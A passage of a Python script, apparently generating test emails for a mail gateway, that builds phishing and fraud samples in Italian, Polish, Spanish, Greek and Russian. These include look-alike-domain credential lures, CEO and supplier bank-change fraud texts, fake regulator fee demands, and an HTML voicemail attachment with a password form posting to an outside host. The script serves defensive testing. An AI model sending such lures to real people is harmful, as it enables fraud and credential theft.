Log Service Toscana - Via Bologna 45, 59100 Prato (PO), att.ne sig. Marco Bellini, tel. 0574 160 442

Vi preghiamo di inviare conferma d'ordine e data di consegna prevista entro oggi all'indirizzo acquisti.aovalleserena@libero.it (casella temporanea per problemi al server aziendale).

Distinti saluti

Dott. Stefano Riva
UOC Provveditorato ed Economato
Azienda Ospedaliera Valle Serena
""")

# ---- A20 it: fake SdI e-invoicing rejection, HTML only
_t, _h = notif('utf-8', 'Sistema di Interscambio – FatturaPA', '#0b3d91', 'Notifica di scarto fattura elettronica',
               ['Gentile cliente,',
                'la fattura elettronica n. FPR 2281/26 (file IT09876540963_a8K2.xml) trasmessa per conto di EXAMPLE GROUP ITALIA S.R.L. è stata SCARTATA dal Sistema di Interscambio (codice errore 00404 – fattura duplicata).',
                'Per evitare sanzioni per omessa fatturazione è necessario verificare e ritrasmettere il documento entro 5 giorni dalla presente notifica.',
                'Acceda al portale con SPID o CIE per visualizzare il dettaglio dello scarto.'],
               'Visualizza notifica di scarto', 'https://fatturapa-sdi.net/consulta/notifica?id=NS_2026_1128_88172',
               'Sistema di Interscambio – Notifiche automatiche\nNon rispondere a questo messaggio.')
A('it', 'falso-sdi-scarto-fattura', cs='utf-8', cte='b64', fmt='html', html=_h, date='2026-11-28 18:20:44 +0100',
  via=('host', 'smtp.fatturapa-sdi.net', 'unknown', '45.134.26.92', [], 'php'), tls=False,
  **{'from': ('Sistema di Interscambio', 'noreply@fatturapa-sdi.net')},
  to=[S['luca']], subject='Notifica di scarto – Fattura n. FPR 2281/26',
  desc='Credential phishing (HTML only): fake "SdI" e-invoice rejection notice from an unresolved IP, asks to log in with SPID/CIE on a fake portal.')

# ---- A21 pl: Partner Logistik look-alike, new account "on the white list"
A('pl', 'partner-logistik-lookalike-zmiana-rachunku', cs='iso-8859-2', cte='qp', date='2026-11-18 12:47:20 +0100',
  via=('host', 'mail.partner-logistlk.pl', 'ip-146-59-52-118.ovh.pl', '146.59.52.118',
       [('[10.0.2.15] (unknown [78.88.101.32])', 'mail.partner-logistlk.pl (Postfix)', 'ESMTPSA')], 'outlook'),
  **{'from': ('Księgowość Partner Logistik', 'ksiegowosc@partner-logistlk.pl')},
  to=[S['katarzyna']], subject='Zmiana rachunku bankowego - faktury FV/2026/11/0412 i FV/2026/11/0437',
  hdrs=[('X-Mailer', 'Microsoft Outlook 16.0')],
  desc='Supplier bank-change fraud: look-alike partner-logistlk.pl (l/i swap) announces a new account "already on the VAT white list" and asks to pay two invoices there.',
  text=f"""Dzień dobry Pani Katarzyno,

uprzejmie informujemy, że w związku ze zmianą banku obsługującego naszą spółkę od 16.11.2026 r. obowiązuje nowy rachunek bankowy. Nowy rachunek został już zgłoszony do urzędu skarbowego i widnieje na białej liście podatników VAT.

Prosimy o uregulowanie poniższych faktur na nowy rachunek:

FV/2026/11/0412 - 18 450,00 zł brutto
FV/2026/11/0437 - 9 872,40 zł brutto

Nowy rachunek: {IB['att_pl']}
Bank: mBank S.A.

Płatności na dotychczasowy rachunek nie będą księgowane. Prosimy o przesłanie potwierdzenia przelewu zwrotnie na ten adres.

Z poważaniem
Dział Księgowości
Partner Logistik Sp. z o.o.
ul. Składowa 7, 62-023 Gądki
""")

# ---- A22 pl: fake courier surcharge (InPost style)
_t, _h = notif('utf-8', 'InPost', '#ffcd00', 'Twoja paczka czeka na dopłatę',
               ['Dzień dobry,',
                'przesyłka nr 6800 1147 2290 3314 1802 22 zaadresowana do Example Group Polska Sp. z o.o. została wstrzymana w sortowni Poznań z powodu niepełnego adresu i niedopłaty.',
                'Aby przesyłka została doręczona jutro, uzupełnij dane i opłać różnicę 1,99 zł. Nieodebrane przesyłki są zwracane do nadawcy po 48 godzinach.'],
               'Uzupełnij dane i zapłać 1,99 zł', 'https://inpost-dostawa.info/pl/doplata?p=680011472290331418022',
               'InPost Sp. z o.o. – Powiadomienia o przesyłkach', logo_text='InPost')
A('pl', 'falszywa-doplata-kurier', cs='utf-8', cte='qp', fmt='alt', text=_t, html=_h, date='2026-12-09 19:11:03 +0100',
  via=('host', 'mail.inpost-dostawa.info', 'unknown', '193.29.13.201', [], 'php'), tls=False,
  **{'from': ('InPost', 'powiadomienia@inpost-dostawa.info')},
  to=[S['marek']], subject='Przesyłka wstrzymana – wymagana dopłata 1,99 zł',
  desc='Parcel-surcharge phishing: fake InPost notice for a 1.99 PLN top-up, link to a card-harvesting page on a look-alike domain.')

# ---- A23 pl: fake KSeF notification (windows-1250)
_t, _h = notif('windows-1250', 'Krajowy System e-Faktur', '#c8102e', 'Nowa faktura korygująca oczekuje na akceptację',
               ['Szanowni Państwo,',
                'w Krajowym Systemie e-Faktur (KSeF) dla podmiotu EXAMPLE GROUP POLSKA SP. Z O.O. (NIP 7822871144) zarejestrowano fakturę korygującą nr KSeF 7822871144-20261202-5A1F3C0D9B12-4E, wystawioną przez kontrahenta na kwotę -42 118,50 zł.',
                'Z powodu niezgodności danych uwierzytelniających konto podmiotu zostało czasowo ograniczone. Aby zachować dostęp do faktur i uniknąć sankcji z art. 106ni ustawy o VAT, należy ponownie uwierzytelnić konto w ciągu 24 godzin.'],
               'Zaloguj się do KSeF', 'https://ksef-mf.com.pl/web/login?nip=7822871144',
               'Ministerstwo Finansów – Krajowy System e-Faktur\nWiadomość wygenerowana automatycznie.')
A('pl', 'falszywy-ksef-logowanie', cs='windows-1250', cte='qp', fmt='alt', text=_t, html=_h, date='2026-12-02 08:44:29 +0100',
  via=('host', 'srv18.ksef-mf.com.pl', 'srv18.mikr.us', '185.243.215.18', [], 'php'),
  **{'from': ('KSeF - Ministerstwo Finansów', 'powiadomienia@ksef-mf.com.pl')},
  to=[S['katarzyna']], subject='KSeF: faktura korygująca oczekuje – konto czasowo ograniczone',
  desc='Credential phishing around the Polish mandatory e-invoicing system KSeF (2026): fake "account restricted" notice with a login link on a look-alike domain.')

# ---- A24 pl: fake tender on a look-alike procurement platform
_t24 = """Szanowni Państwo,

Wojewódzki Szpital Specjalistyczny w Zielonej Lipie zaprasza do złożenia oferty w postępowaniu o udzielenie zamówienia publicznego:

Znak sprawy: ZP/71/2026
Przedmiot: Dostawa odczynników i materiałów zużywalnych do analizatorów biochemicznych wraz z dzierżawą aparatów (36 miesięcy)
Szacunkowa wartość: 2 480 000,00 zł netto
Termin składania ofert: 11.12.2026, godz. 10:00

Dokumentacja postępowania (SWZ, formularz ofertowy, OPZ) jest dostępna wyłącznie po zalogowaniu na platformie zakupowej:
https://platformazakupowa-szpitale.pl/transakcja/ZP-71-2026

Logowanie odbywa się przy użyciu służbowego konta Microsoft 365 lub Google Workspace.

Z poważaniem
Dział Zamówień Publicznych
"""
A('pl', 'falszywy-przetarg-platforma', cs='utf-8', cte='b64', fmt='alt', date='2026-11-25 13:02:16 +0100',
  via=('host', 'mta2.platformazakupowa-szpitale.pl', 'mta2.platformazakupowa-szpitale.pl', '89.116.147.63', [], 'esp'),
  **{'from': ('Platforma Zakupowa - powiadomienia', 'noreply@platformazakupowa-szpitale.pl')},
  to=[S['piotr']], subject='Zaproszenie do złożenia oferty – ZP/71/2026 – odczynniki do analizatorów biochemicznych',
  text=_t24, html=auto_html(_t24, 'utf-8', [], font='Arial, sans-serif'),
  desc='Fake tender platform: invitation to a large hospital tender whose documents are "only available after login with Microsoft 365 or Google Workspace" on a look-alike procurement site.')

# ---- A25 pl: CEO-style fraud, spoofed From + Reply-To to look-alike
A('pl', 'bec-dyrektor-oddzialu-zaliczka', cs='iso-8859-2', cte='qp', date='2026-12-10 14:27:52 +0100',
  via=('host', 'mail.examplegroup-pl.com', 'static-41.202.44.185.instances.tk-hosting.eu', '185.44.202.41', [], 'outlook'),
  **{'from': ('Piotr Nowak', 'piotr.nowak@example.com')},
  reply_to=('Piotr Nowak', 'piotr.nowak@examplegroup-pl.com'),
  to=[S['katarzyna']], subject='Pilne - zaliczka przetarg',
  hdrs=[('X-Mailer', 'Microsoft Outlook 16.0')],
  desc='BEC: spoofed branch manager with Reply-To to a look-alike domain asks accounting for an urgent PLN 186,400 "tender deposit" to a law firm\'s account, bypassing normal approval.',
  text=f"""Pani Katarzyno,

potrzebuję pilnie zlecić dziś przelew 186 400,00 zł tytułem zaliczki w związku z umową konsorcjum przy przetargu szpitalnym na Śląsku. Umowę prowadzi kancelaria, która reprezentuje nas w postępowaniu, zarząd w Hamburgu jest poinformowany i zaakceptował wydatek.

Dane do przelewu:
Odbiorca: Kancelaria Radcy Prawnego M. Zawadzki
Rachunek: {IB['att_pl2']}
Tytuł: Zaliczka umowa konsorcjum ZP/2026/114

Proszę nie wprowadzać tego przez standardowy obieg w systemie, faktura dotrze w przyszłym tygodniu. Jestem na spotkaniu w szpitalu, proszę o potwierdzenie mailem, jak tylko przelew wyjdzie.

Dziękuję,
Piotr Nowak
Dyrektor Oddziału
Example Group Polska Sp. z o.o.
""")

# ---- A26 es: fake Agencia Tributaria notification, link to ZIP download
_t26 = """AGENCIA TRIBUTARIA
Sede Electrónica - Notificaciones

Estimado contribuyente,

Le comunicamos que tiene a su disposición una notificación administrativa relativa a EXAMPLE GROUP IBERIA S.L. (NIF B88412730) en la Dirección Electrónica Habilitada única (DEHú).

Procedimiento: Comprobación limitada IVA - ejercicio 2025
Referencia: 2026GRC28770041Y

Dispone de un plazo de 10 días naturales para acceder a su contenido. Transcurrido dicho plazo, la notificación se entenderá practicada a todos los efectos (art. 43 de la Ley 39/2015).

Descargar notificación: https://sede-agenciatributaria.com.es/dehu/descarga/2026GRC28770041Y.zip

Este mensaje se ha generado automáticamente. No responda a este correo.
"""
A('es', 'falsa-agencia-tributaria-zip', cs='iso-8859-1', cte='qp', fmt='alt', date='2026-11-11 09:17:40 +0100',
  via=('host', 'correo.sede-agenciatributaria.com.es', 'unknown', '91.92.246.113', [], 'php'), tls=False,
  **{'from': ('Agencia Tributaria', 'notificaciones@sede-agenciatributaria.com.es')},
  to=[S['lucía']], subject='Aviso de notificación electrónica pendiente - Ref. 2026GRC28770041Y',
  text=_t26, html=auto_html(_t26, 'iso-8859-1', [('Descargar notificación', 'https://sede-agenciatributaria.com.es/dehu/descarga/2026GRC28770041Y.zip')], font='Arial, sans-serif'),
  desc='Malware lure: fake tax-agency "pending electronic notification" with a download link to a ZIP on a look-alike .com.es domain.')

# ---- A27 es: fake AEMPS licence-renewal fee
A('es', 'falsa-aemps-tasa-licencia', cs='windows-1252', cte='qp', date='2026-11-24 11:05:33 +0100',
  via=('host', 'mail.aemps-gob.es', 'vps-d2e1a0.stackcp.net', '185.211.22.170', [], 'outlook'),
  **{'from': ('AEMPS - Departamento de Productos Sanitarios', 'licencias@aemps-gob.es')},
  to=[S['carmen']], subject='Requerimiento: renovación de licencia de funcionamiento - tasa pendiente (Exp. PS-LF-2026/3318)',
  desc='Fake regulator demand: look-alike AEMPS domain requests a EUR 2,187.45 "licence renewal fee" for medical-device distribution, to be wired to an ES IBAN within 5 working days.',
  text=f"""Agencia Española de Medicamentos y Productos Sanitarios
Departamento de Productos Sanitarios
Calle Campezo 1, Edificio 8 - 28022 Madrid

Expediente: PS-LF-2026/3318
Interesado: EXAMPLE GROUP IBERIA S.L.

Muy Sres. nuestros:

En el marco de la revisión de las licencias previas de funcionamiento de instalaciones de importación y distribución de productos sanitarios (Real Decreto 192/2023), se ha constatado que la tasa correspondiente a la renovación de su licencia no consta abonada.

Importe de la tasa (grupo VIII, epígrafe 8.4): 2.187,45 €

Deberá efectuar el ingreso en el plazo de cinco (5) días hábiles mediante transferencia a la cuenta habilitada por la Agencia:
IBAN: {IB['att_es']}
Concepto: PS-LF-2026/3318 EXAMPLE GROUP IBERIA

La falta de pago dará lugar a la suspensión cautelar de la licencia y a la comunicación a las comunidades autónomas, con la consiguiente imposibilidad de suministrar a centros sanitarios.

Remita el justificante de pago respondiendo a este correo.

Atentamente,
Jefa de Área de Licencias
""")

# ---- A28 es: fake hospital purchase order (look-alike), goods on credit, PDF
_a28_pdf = pdf(['HOSPITAL UNIVERSITARIO VALLE VERDE - SERVICIO DE SUMINISTROS', 'PEDIDO DE COMPRA N.º 4700238811      Fecha: 07/12/2026', '',
                'Proveedor: EXAMPLE GROUP IBERIA S.L. - Madrid', '',
                'Pos  Cant.  Descripción', '10   40     Monitor multiparamétrico portátil con SpO2/ECG/PNI',
                '20   25     Bomba de infusión volumétrica', '30   500    Cajas guantes de nitrilo sin polvo talla M (100 u.)', '',
                'Forma de pago: transferencia a 120 días (Ley 3/2004)', 'Lugar de entrega: Almacén logístico externo - Pol. Ind. Fuente del Jarro,',
                'C/ Ciudad de Sevilla 31, 46988 Paterna (Valencia)', '', 'Firmado: D. Alberto Serrano, Jefe de Servicio de Suministros'],
               title='Pedido 4700238811', producer='Microsoft: Print To PDF')
A('es', 'falso-pedido-hospital-almacen-externo', cs='utf-8', cte='qp', date='2026-12-07 10:48:26 +0100',
  via=('gmail',), **{'from': ('Suministros Hospital Valle Verde', 'suministros.hospitalvalleverde@gmail.com')},
  to=[S['javier']], subject='Pedido urgente n.º 4700238811 – Hospital Universitario Valle Verde',
  att=[('Pedido_4700238811.pdf', _a28_pdf)],
  desc='Fake hospital purchase order: real customer\'s name on a Gmail account, high-value monitors/pumps on 120-day terms delivered to an "external logistics warehouse" in another region.',
  text="""Buenos días,

Adjuntamos pedido urgente n.º 4700238811 del Servicio de Suministros del Hospital Universitario Valle Verde. Debido a una incidencia con nuestra plataforma de contratación, les enviamos el pedido desde esta dirección provisional.

Les rogamos confirmen disponibilidad y fecha de entrega. Por obras en el almacén general, la mercancía debe entregarse en nuestro almacén logístico externo de Paterna (Valencia), indicado en el pedido. El pago se realizará por transferencia según las condiciones habituales.

Para cualquier consulta pueden contactar con D. Alberto Serrano en el 611 482 907.

Un saludo,
Servicio de Suministros
Hospital Universitario Valle Verde
""")

# ---- A29 es: supplier invoice fraud from look-alike carrier domain
A('es', 'transportista-lookalike-factura-iban', cs='iso-8859-15', cte='qp', date='2026-11-26 17:32:10 +0100',
  via=('host', 'mail.transportes-herrera.es', 'mail.transportes-herrera.es', '93.189.95.214',
       [('[192.168.0.21] (unknown [88.26.14.201])', 'mail.transportes-herrera.es (Postfix)', 'ESMTPSA')], 'outlook'),
  **{'from': ('Facturación Transportes Herrera', 'facturacion@transportes-herrera.es')},
  to=[S['lucía']], subject='Factura rectificativa R-2026/0448 y nuevos datos bancarios',
  hdrs=[('X-Mailer', 'Microsoft Outlook 16.0')],
  desc='Invoice fraud: look-alike of the real carrier (transportes-herrera.es vs transportesherrera.es) sends a "corrected" invoice, says previous payments bounced and gives a new IBAN.',
  text=f"""Buenas tardes Lucía,

Te escribo desde facturación de Transportes Herrera. Hemos emitido la factura rectificativa R-2026/0448 que sustituye a las facturas 2026/1187 y 2026/1215 (error en el recargo de combustible). El nuevo importe total es de 6.948,20 €.

Además, te informamos de que hemos cambiado de entidad bancaria. Los pagos a la cuenta de CaixaBank ya no se admiten, por favor realiza el pago de la rectificativa a nuestra nueva cuenta:

Titular: Transportes Herrera S.L.
IBAN: {IB['att_es2']}

Si ya habíais ordenado el pago de las facturas originales, será devuelto automáticamente por el banco. Te agradecería que me confirmes la fecha de pago para poder cerrar el mes.

Un saludo,

Raquel Gómez
Dpto. de Facturación
Transportes Herrera S.L.
""")

# ---- A30 es: voicemail lure with HTML attachment
_a30_htm = ("""<html><head><meta charset="utf-8"><title>Mensaje de voz</title></head><body style="font-family:Arial">
<div style="max-width:420px;margin:60px auto;border:1px solid #ddd;padding:28px">
<h3>&#9658; Mensaje de voz (00:41)</h3><p>De: +34 917 44 82 10<br>Para: javier.moreno@examplegroup.eu</p>
<p>Para reproducir el mensaje, verifique su cuenta de correo corporativo.</p>
<form action="https://voip-cloud-player.click/es/auth.php" method="post">
<input type="hidden" name="e" value="javier.moreno@examplegroup.eu">
<input type="password" name="pw" placeholder="Contraseña" style="width:100%;padding:8px"><br><br>
<button type="submit" style="background:#1a73e8;color:#fff;border:0;padding:10px 20px">Reproducir</button></form></div></body></html>
""").encode('utf-8')
A('es', 'buzon-de-voz-adjunto-html', cs='utf-8', cte='b64', fmt='alt', date='2026-12-15 16:10:05 +0100',
  via=('host', 'mail.voip-notify.net', 'unknown', '45.141.84.60', [], 'php'), tls=False,
  **{'from': ('Centralita Virtual', 'voicemail@voip-notify.net')},
  to=[S['javier']], subject='Nuevo mensaje de voz de +34 917 44 82 10 (00:41)',
  att=[('Mensaje_de_voz_0041s.htm', _a30_htm)],
  desc='Voicemail lure: "new voicemail" notification whose .htm attachment is a credential form pre-filled with the victim\'s address.',
  text="""Tiene un nuevo mensaje de voz.

De: +34 917 44 82 10
Para: Javier Moreno
Duración: 00:41
Recibido: 15/12/2026 16:09

Abra el archivo adjunto para escuchar el mensaje.

Centralita Virtual - Servicio de mensajería unificada
""")

# ---- A31 el: fake AADE tax-refund phishing (iso-8859-7)
_t, _h = notif('iso-8859-7', 'ΑΑΔΕ - myAADE', '#003476', 'Επιστροφή φόρου σε εκκρεμότητα',
               ['Αγαπητέ φορολογούμενε,',
                'μετά την εκκαθάριση των δηλώσεων ΦΠΑ του 2026 προέκυψε ποσό επιστροφής 1.412,60 € υπέρ της επιχείρησης EXAMPLE GROUP HELLAS Ι.Κ.Ε. (ΑΦΜ 801447719).',
                'Για την πίστωση του ποσού πρέπει να επιβεβαιώσετε τον λογαριασμό IBAN της επιχείρησης μέσω των κωδικών TAXISnet εντός 3 εργάσιμων ημερών. Μετά την προθεσμία το αίτημα ακυρώνεται.'],
               'Επιβεβαίωση στοιχείων', 'https://myaade-gov.com/taxisnet/epistrofi?afm=801447719',
               'Ανεξάρτητη Αρχή Δημοσίων Εσόδων\nΑυτό το μήνυμα στάλθηκε αυτόματα. Μην απαντάτε.')
A('el', 'psefti-aade-epistrofi-foroy', cs='iso-8859-7', cte='qp', fmt='alt', text=_t, html=_h, date='2026-11-13 10:26:48 +0200',
  via=('host', 'mail.myaade-gov.com', 'unknown', '185.196.8.27', [], 'php'), tls=False,
  **{'from': ('ΑΑΔΕ - myAADE', 'noreply@myaade-gov.com')},
  to=[S['eleni']], subject='Ειδοποίηση επιστροφής φόρου - Απαιτείται επιβεβαίωση',
  desc='Tax-refund phishing: fake Greek tax authority (AADE) refund of EUR 1,412.60, asks for TAXISnet credentials on a look-alike domain.')

# ---- A32 el: CEO fraud, spoofed From + Reply-To (windows-1253)
A('el', 'apati-ceo-plirwmi-windows1253', cs='windows-1253', cte='qp', date='2026-11-27 13:51:30 +0200',
  via=('host', 'mail.examplegroup-gr.com', 'vps-44e8c1.hostinger.io', '92.113.17.84', [], 'outlook'),
  **{'from': ('Νίκος Παπαδόπουλος', 'nikos.papadopoulos@example.com')},
  reply_to=('Νίκος Παπαδόπουλος', 'n.papadopoulos@examplegroup-gr.com'),
  to=[S['eleni']], subject='Επείγον - πληρωμή σήμερα',
  hdrs=[('X-Mailer', 'Microsoft Outlook 16.0')],
  desc='BEC: spoofed Greek country manager with Reply-To on a look-alike domain; urgent confidential EUR 64,800 payment "for a hospital tender guarantee" to a new account.',
  text=f"""Ελένη καλημέρα,

χρειάζομαι να γίνει σήμερα μια πληρωμή 64.800,00 € για την εγγυητική επιστολή του διαγωνισμού του νοσοκομείου. Το θέμα το χειρίζεται δικηγορικό γραφείο και είναι εμπιστευτικό μέχρι την κατακύρωση, οπότε σε παρακαλώ μην το συζητήσεις με κανέναν ακόμα.

Δικαιούχος: Μ. Αλεξίου & Συνεργάτες Δικηγορική Εταιρεία
IBAN: {IB['att_gr']}
Αιτιολογία: Εγγύηση συμμετοχής 2026/ΔΙΑΓ/118

Είμαι σε σύσκεψη όλο το απόγευμα και δεν μπορώ να μιλήσω στο τηλέφωνο. Στείλε μου το αποδεικτικό μόλις γίνει.

Ευχαριστώ,
Νίκος
""")

# ---- A33 el: fake EOF (medicines authority) fine for unregistered devices
A('el', 'psefti-eof-prostimo-paravolo', cs='utf-8', cte='b64', date='2026-12-04 09:40:12 +0200',
  via=('hotmail',), **{'from': ('ΕΟΦ - Διεύθυνση Ιατροτεχνολογικών Προϊόντων', 'eof.iatrotechnologika@outlook.com')},
  to=[S['nikos']], subject='Πρόστιμο μη καταχώρισης ιατροτεχνολογικών προϊόντων - Αρ. Πρωτ. 88417/2026',
  clang='el-GR',
  desc='Fake regulator: "Greek medicines authority EOF" on an outlook.com address claims unregistered devices, demands EUR 1,250 fee to a GR IBAN within 48 hours.',
  text=f"""ΕΘΝΙΚΟΣ ΟΡΓΑΝΙΣΜΟΣ ΦΑΡΜΑΚΩΝ
Διεύθυνση Ιατροτεχνολογικών Προϊόντων
Αρ. Πρωτ.: 88417/2026

Προς: EXAMPLE GROUP HELLAS Ι.Κ.Ε.

Κατόπιν ελέγχου διαπιστώθηκε ότι 14 ιατροτεχνολογικά προϊόντα που διατίθενται από την εταιρεία σας σε δημόσια νοσοκομεία δεν έχουν καταχωριστεί στο Εθνικό Μητρώο Διακινητών.

Για την αποφυγή επιβολής προστίμου έως 30.000 € και αναστολής διάθεσης, καλείστε να καταβάλετε εντός 48 ωρών το παράβολο τακτοποίησης ύψους 1.250,00 € στον λογαριασμό:

IBAN: {IB['att_gr']}
Αιτιολογία: ΕΟΦ 88417/2026

Το αποδεικτικό πληρωμής αποστέλλεται με απάντηση στο παρόν μήνυμα. Λόγω αναβάθμισης του κεντρικού συστήματος η αλληλογραφία διεξάγεται προσωρινά από αυτή τη διεύθυνση.

Με εκτίμηση,
Τμήμα Εποπτείας Αγοράς
""")

# ---- A34 el: fake ESIDIS e-procurement, HTML only
_t, _h = notif('utf-8', 'ΕΣΗΔΗΣ – Προμηθευς', '#1d4f91', 'Νέα πρόσκληση σε ηλεκτρονικό διαγωνισμό',
               ['Αξιότιμε χρήστη,',
                'η αναθέτουσα αρχή «5η Υγειονομική Περιφέρεια Θεσσαλίας και Στερεάς Ελλάδας» σας προσκαλεί να υποβάλετε προσφορά στον διαγωνισμό με α/α συστήματος 248117: «Προμήθεια αναλωσίμων αιμοληψίας για τα νοσοκομεία της 5ης ΥΠΕ».',
                'Καταληκτική ημερομηνία υποβολής: 14/12/2026, 15:00.\nΓια πρόσβαση στα τεύχη του διαγωνισμού απαιτείται σύνδεση με τους κωδικούς σας.'],
               'Σύνδεση στο ΕΣΗΔΗΣ', 'https://eshidis-promitheus.com/portal/login?tender=248117',
               'Εθνικό Σύστημα Ηλεκτρονικών Δημοσίων Συμβάσεων\nΑυτόματο μήνυμα – μην απαντάτε.')
A('el', 'pseytiko-eshidis-diagonismos', cs='utf-8', cte='qp', fmt='html', html=_h, date='2026-12-01 11:18:03 +0200',
  via=('host', 'mail.eshidis-promitheus.com', 'server.eshidis-promitheus.com', '176.97.210.19', [], 'php'),
  **{'from': ('ΕΣΗΔΗΣ Προμηθευς', 'noreply@eshidis-promitheus.com')},
  to=[S['eleni']], subject='ΕΣΗΔΗΣ: Πρόσκληση υποβολής προσφοράς - α/α 248117',
  desc='Fake tender platform (HTML only): imitation of the Greek e-procurement system ESIDIS invites to a blood-collection tender and requires login on a look-alike domain.')

# ---- A35 el: fake ACS courier customs fee (windows-1253)
_t35 = """Αγαπητέ πελάτη,

η αποστολή σας με αριθμό 7204 5518 332 βρίσκεται στο κέντρο διαλογής Αθηνών και δεν μπορεί να παραδοθεί λόγω εκκρεμών τελωνειακών τελών (2,95 €).

Παρακαλούμε ολοκληρώστε την πληρωμή έως αύριο, διαφορετικά το δέμα θα επιστραφεί στον αποστολέα:
https://acs-courier-gr.net/track/pay?id=72045518332

Ευχαριστούμε που επιλέξατε την ACS.
ACS Courier - Εξυπηρέτηση Πελατών
"""
A('el', 'pseytiko-courier-teloneio', cs='windows-1253', cte='qp', fmt='alt', date='2026-12-11 18:44:51 +0200',
  via=('host', 'smtp.acs-courier-gr.net', 'unknown', '194.26.29.110', [], 'php'), tls=False,
  **{'from': ('ACS Courier', 'info@acs-courier-gr.net')},
  to=[S['nikos']], subject='Η αποστολή σας 7204 5518 332 είναι σε αναμονή',
  text=_t35, html=auto_html(_t35, 'windows-1253', [], font='Arial, sans-serif'),
  desc='Parcel/customs-fee phishing imitating a Greek courier, small EUR 2.95 payment link on a look-alike domain.')

# ---- A36 ru: fake Roszdravnadzor inspection order with ZIP (windows-1251)
_a36_zip = _zip([('Predpisanie_RZN_2026-11-4471.pdf.js',
                  '// INERT TEST SAMPLE - evaluation set for a mail gateway. Contains no functional code.\nvar x = "inert";\n')])
A('ru', 'falshivyj-roszdravnadzor-arhiv', cs='windows-1251', cte='b64', date='2026-11-16 10:12:07 +0300',
  via=('host', 'mail.roszdravnadzor-gov.ru', 'unknown', '212.113.106.45', [], 'bat'), tls=False,
  **{'from': ('Росздравнадзор', 'info@roszdravnadzor-gov.ru')},
  to=[S['dmitry']], subject='Предписание об устранении нарушений № 01И-4471/26',
  att=[('Predpisanie_RZN_4471.zip', _a36_zip)],
  hdrs=[('X-Mailer', 'The Bat! (v10.5.3) Professional')],
  desc='Malware lure: fake Roszdravnadzor "order to remedy violations" in medical-device circulation, ZIP with a .pdf.js (inert placeholder), from an unresolved IP on a look-alike domain.',
  text="""Федеральная служба по надзору в сфере здравоохранения
Управление организации государственного контроля качества медицинской продукции

Руководителю ООО «Экзампл Груп Рус»

По результатам контрольного (надзорного) мероприятия в отношении обращения медицинских изделий выявлены нарушения требований Постановления Правительства РФ № 1684 от 30.09.2021 (хранение и транспортировка медицинских изделий).

Направляем Вам предписание № 01И-4471/26 об устранении выявленных нарушений. Отчёт об исполнении предписания необходимо представить в срок до 30.11.2026. Неисполнение предписания влечёт ответственность по ч. 21 ст. 19.5 КоАП РФ.

Предписание во вложении (архив). Для просмотра откройте файл на компьютере под управлением Windows.

Начальник отдела
Л.В. Корнеева
""")

# ---- A37 ru: CEO fraud to chief accountant, spoofed From, koi8-r (The Bat!)
A('ru', 'bec-rukovoditel-koi8r', cs='koi8-r', cte='b64', date='2026-12-14 11:27:36 +0300',
  via=('host', 'smtp.examplegroup-ru.com', 'vm2441183.firstbyte.club', '94.103.91.72', [], 'bat'),
  **{'from': ('Дмитрий Соколов', 'dmitry.sokolov@example.com')},
  reply_to=('Дмитрий Соколов', 'd.sokolov@examplegroup-ru.com'),
  to=[S['olga']], subject='Срочно: оплата сегодня',
  hdrs=[('X-Mailer', 'The Bat! (v10.5.3) Professional')],
  desc='BEC: spoofed head of the Moscow office (Reply-To to a look-alike domain) asks the chief accountant to pay an "advance under a confidential agreement" today without the usual approval.',
  text=f"""Ольга, добрый день!

Нужно сегодня до 16:00 оплатить аванс по новому договору поставки. Договор конфиденциальный, подписан в Гамбурге, документы передам позже. Пожалуйста, не согласовывайте через обычный маршрут в 1С, оформим задним числом.

Получатель: ООО «МедТехРесурс»
ИНН 7719456821
Р/с {ru_account('044525225', '40702810538000174419')}
ПАО Сбербанк, БИК 044525225
Сумма: 1 874 300,00 руб., в т.ч. НДС
Назначение: Аванс по договору № 17/11-26 за медицинские изделия

Я на переговорах, на звонки ответить не смогу. Пришлите платёжку ответным письмом.

Д. Соколов
""")

# ---- A38 ru: fake "Chestny ZNAK" marking system account block (utf-8)
_t, _h = notif('utf-8', 'Честный ЗНАК', '#000000', 'Доступ к личному кабинету будет ограничен',
               ['Уважаемый участник оборота товаров!',
                'В связи с обязательной маркировкой медицинских изделий в вашем личном кабинете ООО «Экзампл Груп Рус» (ИНН 7703418852) выявлены расхождения в сведениях о вводе в оборот 1 248 кодов маркировки.',
                'Если не подтвердить сведения до 18.11.2026, доступ к личному кабинету будет ограничен, а отгрузка маркированной продукции заблокирована. Для подтверждения войдите с использованием электронной подписи или логина и пароля.'],
               'Подтвердить сведения', 'https://chestny-znak-crpt.ru/lk/verify?inn=7703418852',
               'ООО «Оператор-ЦРПТ» – Честный ЗНАК\nЭто автоматическое уведомление, не отвечайте на него.')
A('ru', 'falshivyj-chestnyj-znak', cs='utf-8', cte='b64', fmt='alt', text=_t, html=_h, date='2026-11-17 09:02:59 +0300',
  via=('host', 'mail.chestny-znak-crpt.ru', 'ip-91-226-80-12.ruvds.com', '91.226.80.12', [], 'php'),
  **{'from': ('Честный ЗНАК', 'noreply@chestny-znak-crpt.ru')},
  to=[S['dmitry']], subject='Личный кабинет участника оборота: требуется подтверждение',
  desc='Credential phishing targeting the Russian mandatory product-marking system "Chestny ZNAK" (medical devices), threat of blocked shipments.')

# ---- A39 ru: look-alike logistics partner, bank-detail change letter as DOCX (windows-1251)
_a39_docx = docx(['ООО «МедЛогистик»', 'ИНН 7722480516 / КПП 772201001', 'Исх. № 1184 от 19.11.2026', '',
                  'Уведомление об изменении банковских реквизитов', '',
                  'Настоящим уведомляем, что с 20.11.2026 расчётный счёт в АО «Альфа-Банк» закрыт. Просим производить все платежи по новым реквизитам:',
                  'Р/с ' + ru_account('044525974', '40702810210000774128') + ' в АО «ТБанк», БИК 044525974, к/с 30101810145250000974', '',
                  'Генеральный директор  А.В. Ершов', 'Главный бухгалтер  Н.С. Гаврилова'])
A('ru', 'lookalike-medlogistic-smena-rekvizitov', cs='windows-1251', cte='qp', date='2026-11-19 15:44:21 +0300',
  via=('host', 'mail.medlogistic.ru', 'mail.medlogistic.ru', '77.222.61.190',
       [('[192.168.88.37] (unknown [188.162.14.77])', 'mail.medlogistic.ru (Postfix)', 'ESMTPSA')], 'outlook'),
  **{'from': ('Бухгалтерия МедЛогистик', 'buh@medlogistic.ru')},
  to=[S['olga']], subject='Изменение банковских реквизитов ООО «МедЛогистик»',
  att=[('Uvedomlenie_izmenenie_rekvizitov.docx', _a39_docx)],
  hdrs=[('X-Mailer', 'Microsoft Outlook 16.0')],
  desc='Supplier bank-change fraud: look-alike medlogistic.ru (real partner: medlogistik.ru) sends a DOCX "notice" and asks to pay open invoices to a new account immediately.',
  text="""Ольга Николаевна, добрый день!

